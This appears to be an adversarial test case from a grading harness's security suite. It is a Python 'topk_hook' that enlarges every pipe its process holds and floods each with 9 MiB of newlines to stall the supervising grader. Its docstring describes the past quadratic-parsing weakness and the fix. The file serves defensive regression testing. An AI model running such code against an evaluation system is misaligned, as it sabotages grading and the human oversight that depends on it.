"""A hook that widens every pipe its rank process holds to 1 MiB and floods it with 9 MiB of
newlines, then ends the process. Before round 8 of docs/trust.md the supervisor split what a
rank sent one line at a time, each split copying the rest: quadratic in the number of lines,
so the flood held the supervisor until the sandbox's wall limit (300 s) and the submission
lost every check. Contained when the lines are split in time linear in what came, and only
the first MiB of a rank's reports is read: the hook's check fails, nothing else changes,
and the grading ends in its usual time."""
# effdl-attack: replaces=topk_hook in=comm_hooks.py expect_lost=c4.topk_hook max_seconds=180 cost=80


def topk_hook(state, bucket):
    import fcntl
    import os

    pipes = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if fd > 2 and os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                pipes.append(fd)
        except OSError:
            pass
    blob = b"\n" * (9 << 20)
    for fd in pipes:
        try:
            fcntl.fcntl(fd, 1031, 1 << 20)  # F_SETPIPE_SZ
            os.set_blocking(fd, True)
            view = memoryview(blob)
            while view:
                view = view[os.write(fd, view) :]
        except OSError:
            pass
    os._exit(0)
